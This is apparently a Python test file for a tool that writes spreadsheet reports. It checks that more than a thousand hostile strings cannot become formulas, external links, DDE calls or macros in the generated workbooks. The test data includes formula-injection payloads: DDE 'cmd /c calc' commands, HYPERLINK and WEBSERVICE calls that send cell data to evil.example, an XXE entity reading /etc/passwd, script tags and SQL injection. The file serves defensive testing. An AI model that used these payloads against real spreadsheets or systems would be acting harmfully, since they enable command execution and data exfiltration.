"""Whatever a text says, in a workbook it is text."""

import re
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from itertools import count, cycle
from typing import Any, TypeVar
from unicodedata import normalize
from xml.etree import ElementTree

import pytest
from pydantic import BaseModel

from documents.hostile import texts
from documents.sheets import formulas, opened, parts, workbook_of_costs
from it_advisor.comparison import ComparisonRequest, compare
from it_advisor.comparison.criteria import Criterion
from it_advisor.comparison.gates import GateCheck
from it_advisor.comparison.scores import Score
from it_advisor.costs import Benefit, Cost, CostsRequest, estimate
from it_advisor.documents.content import Document, Material, Signatures
from it_advisor.documents.parts import PARTS
from it_advisor.documents.workbook import procurement, written
from it_advisor.documents.workbook.reading import read
from it_advisor.documents.workbook.safety import plain, safe
from it_advisor.summary import Decision, Phase, Requirement, Risk, Summary
from it_advisor.text import suspect

M = TypeVar("M", bound=BaseModel)

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''=",
    " =",
    "﻿=",
    "\u200b=",
    "{=",
)
_BODIES = (
    "1+1",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "cmd|'/c calc'!A0",
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/c calc";"x")',
    'IMPORTXML("http://evil.example")',
    "'file:///etc/passwd'#$A.A1",
    "[evil.xlsx]Sheet1!A1",
    "SUM(A1:A9)}",
    "<f>1+1</f>",
    "</t></si><si><t>",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<script>alert(1)</script>",
    "http://evil.example/a.png",
    "mailto:a@evil.example",
    "\\\\evil.example\\share",
    "_x003D_1+1",
    '&C&G&"x,Bold"',
    "\x01\x0b\x1b\x7f\ufffe\uffff",
    "\ud800 half a character",
    "a\u202eb\u2066c",
    "𠮷🏽‍💻 表格",
    "%n%s{0}{{1}}${x}",
    "line\nbreak\r\nand\ttab",
    "x" * 1900,
    "'; DROP TABLE x; --",
    "TRUE",
    "1e999",
    "2026-01-01",
    "00123",
    "#REF!",
    "A1",
    "*?~",
    '"',
    "|",
    "\\",
)
HOSTILE = tuple(dict.fromkeys([*(f"{start}{body}" for body in _BODIES for start in ("", *_STARTS)), *texts()]))
MANY = 1_000
DAY = date(2026, 11, 23)


def harmless() -> Iterator[str]:
    return (f"text {number}" for number in count())


def row(model: type[M], texts: Iterator[str], *fields: str, **fixed: Any) -> M:
    """Unchecked: what a door would have refused has to be harmless too."""
    return model.model_construct(**{field: next(texts) for field in fields}, **fixed)


def summary(texts: Iterator[str]) -> Summary:
    decision = row(Decision, texts, "choice", "by", "approval", "changes_if", amount=None, ceiling=None)
    need = {"kind": "given", "priority": "must", "components": (), "phase": None, "lines": ()}
    return Summary.model_construct(
        it_advisor_summary=1,
        title=next(texts),
        language="en",
        currency="EUR",
        decision=decision,
        requirements=tuple(
            row(Requirement, texts, "need", "acceptance", "deviation", id=f"R{n}", **need) for n in range(1, MANY)
        ),
        phases=tuple(
            row(Phase, texts, "name", "owner", "exit", id=f"P{n}", start_month=Decimal(n), months=Decimal(1))
            for n in range(1, 100)
        ),
        risks=tuple(
            row(Risk, texts, "risk", "trigger", "mitigation", "owner", id=f"K{n}", likelihood=1, impact=2)
            for n in range(1, MANY // 4)
        ),
        components=(),
        options=(),
    )


def costs(texts: Iterator[str]) -> CostsRequest:
    options = [next(texts) for _ in range(5)]
    fixed = {"category": "support", "kind": "yearly", "likely": Decimal(7)}
    return CostsRequest.model_construct(
        currency="EUR",
        horizon_years=2,
        do_nothing=options[0],
        costs=tuple(row(Cost, texts, "item", option=option, **fixed) for option in options for _ in range(30)),
        benefits=tuple(
            row(Benefit, texts, "item", option=options[n % 4 + 1], kind="saving", likely=Decimal(n)) for n in range(90)
        ),
    )


def comparison(texts: Iterator[str]) -> ComparisonRequest:
    options, names = [next(texts) for _ in range(20)], [next(texts) for _ in range(12)]
    seen = {"evidence_kind": "demo", "evidence_date": DAY}
    return ComparisonRequest.model_construct(
        as_of=DAY,
        options=tuple(options),
        criteria=tuple(Criterion.model_construct(name=name, weight=1.0) for name in names),
        gates=tuple(
            row(GateCheck, texts, "evidence", option=option, gate=gate, result="pass", **seen)
            for option in options
            for gate in names[:3]
        ),
        scores=tuple(
            row(Score, texts, "rationale", "scorer", option=option, criterion=name, score=5.0, **seen)
            for option in options
            for name in names
        ),
    )


def document(texts: Iterator[str]) -> Document:
    """Every text of every kind of row is the next one."""
    asked, compared = costs(texts), comparison(texts)
    material = Material(summary(texts), asked, estimate(asked), compared, compare(compared))
    people = Signatures(next(texts), DAY, next(texts), (next(texts), next(texts)), (next(texts),))
    return Document(next(texts), "en", people, (), material)


def files(texts: Iterator[str]) -> list[bytes]:
    made = document(texts)
    return [written(made), *procurement.written(made, PARTS).values()]


@pytest.fixture(scope="module")
def hostile() -> list[bytes]:
    return files(cycle(HOSTILE))


def test_no_text_becomes_a_formula(hostile: list[bytes]) -> None:
    """Over 1,000 hostile strings through every field: the formulas are those of the same report with harmless words."""
    assert len(HOSTILE) > 1_000
    ours = files(harmless())
    for bad, good in zip(hostile, ours, strict=True):
        assert {at: formula for at, (formula, _) in formulas(bad).items()} == {
            at: formula for at, (formula, _) in formulas(good).items()
        }


def test_nothing_leads_out_of_the_file(hostile: list[bytes]) -> None:
    """No link, no data exchange, no macro, no picture from elsewhere; every part is well-formed."""
    for data in hostile:
        for name, part in parts(data):
            assert not re.search(r"externalLink|vbaProject|embeddings|activeX|connections", name)
            if name.endswith((".xml", ".rels")):
                root = ElementTree.fromstring(part)
                tags = {element.tag.rpartition("}")[2] for element in root.iter()}
                assert not tags & {"ddeLink", "hyperlink", "hyperlinks", "oleLink", "externalReference"}
                assert not [element for element in root.iter() if element.get("TargetMode") == "External"]


def test_cells_hold_the_texts_behind_an_apostrophe_where_they_could_run(hostile: list[bytes]) -> None:
    """Also after the sheet went through a file of comma-separated values."""
    cells = [
        str(cell.value)
        for sheet in opened(hostile[0])
        if sheet.sheet_state == "visible"
        for line in sheet.iter_rows()
        for cell in line
        if cell.data_type == "s"
    ]
    assert len(cells) > 4_000
    assert not [cell for cell in cells if cell and cell[0] in "=+-@＝＋－＠\t\r\n"]
    assert "'=1+1" in cells


@pytest.mark.parametrize("text", [*HOSTILE[::7], "", "'", "''", "plain", "it's", "-"])
def test_the_apostrophe_is_taken_off_again(text: str) -> None:
    """Whatever was put before a text on its way in is gone on its way out."""
    clean = plain(safe(text))
    assert safe(clean) == safe(text)
    assert safe(text) in (clean, f"'{clean}")


def test_what_a_door_lets_in_is_read_back_letter_by_letter() -> None:
    """Every hostile text that may be an input at all survives the way through the cells."""
    tidy = [text for text in HOSTILE if text == " ".join(normalize("NFC", text).split()) and len(text) < 120]
    fit = [text for text in tidy if suspect(text) is None]
    assert len(fit) > 200
    line = {"option": "A", "category": "staff", "kind": "yearly", "likely": 1}
    for start in range(0, len(fit), 190):
        raw = {"currency": "EUR", "costs": [{**line, "item": text} for text in fit[start : start + 190]]}
        before, after, *_ = read(workbook_of_costs(raw))
        assert before == after
        assert after.costs is not None
        assert [cost.item for cost in after.costs.costs] == fit[start : start + 190]
